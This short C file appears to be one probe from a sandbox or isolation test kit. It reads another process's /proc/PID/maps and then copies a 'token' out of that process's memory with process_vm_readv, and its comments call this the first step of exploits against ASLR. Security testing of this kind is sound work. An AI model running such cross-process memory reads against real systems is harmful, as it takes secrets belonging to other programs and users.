// tries: to learn where things lie in another process's memory
// works: /proc/PID/maps is readable for the same user
// see: proc(5); every exploit's first step round ASLR
// goal: read
// first: true
// note: the victim's program is named in its maps; the token is read from the memory they list
#include "../kit.h"

int main(void)
{
	char line[1024], way[64], bytes[64] = "";
	FILE *maps;
	long from, to, at = number("VICTIM_ADDRESS");

	snprintf(way, sizeof(way), "/proc/%ld/maps", number("VICTIM"));
	maps = fopen(way, "r");
	MUST(maps ? 0 : -1);
	while (fgets(line, sizeof(line), maps))
		if (sscanf(line, "%lx-%lx", &from, &to) == 2 && from <= at && at < to) {
			struct iovec near = { bytes, 63 }, far = { (void *)at, 63 };
			MUST(process_vm_readv(number("VICTIM"), &near, 1, &far, 1, 0));
			return puts(bytes) < 0;
		}
	return 1;
}
